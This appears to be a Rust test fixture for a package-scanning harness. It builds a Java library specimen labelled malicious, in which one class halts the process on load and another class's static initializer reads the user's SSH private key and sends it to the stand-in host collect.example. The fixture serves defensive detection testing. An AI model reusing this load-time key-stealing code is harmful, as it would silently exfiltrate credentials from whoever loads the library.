//! A Java library whose first class ends the process when it is initialised, and whose second sends a key.
//!
//! Must be survived: the second class is initialised all the same, and that the first one ended the process is told.

use apa_model::IncompleteCode;

use crate::build::Package as _;
use crate::{Expect, Jar, Specimen};

const FIRST: &str = r#"package com.example.exits;

public class AFirst {
    static {
        Runtime.getRuntime().halt(0);
    }
}
"#;

const SECOND: &str = r#"package com.example.exits;

import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Path;

public class Second {
    static {
        try {
            byte[] key = Files.readAllBytes(Path.of(System.getProperty("user.home"), ".ssh", "id_rsa"));
            HttpURLConnection connection = (HttpURLConnection) new URL("https://collect.example/").openConnection();
            connection.setDoOutput(true);
            connection.getOutputStream().write(key);
            connection.getResponseCode();
        } catch (Exception ignored) {
        }
    }
}
"#;

pub(super) fn jar() -> Jar {
    Jar::new("com.example:exits", "1.0.0")
        .source("com/example/exits/AFirst.java", FIRST)
        .source("com/example/exits/Second.java", SECOND)
}

pub(super) fn specimen() -> Specimen {
    jar().specimen(
        "maven-exits-when-loaded",
        Expect::malicious(&["canary-exfiltrated"]).lacking(&[IncompleteCode::HarnessIncomplete]),
    )
}
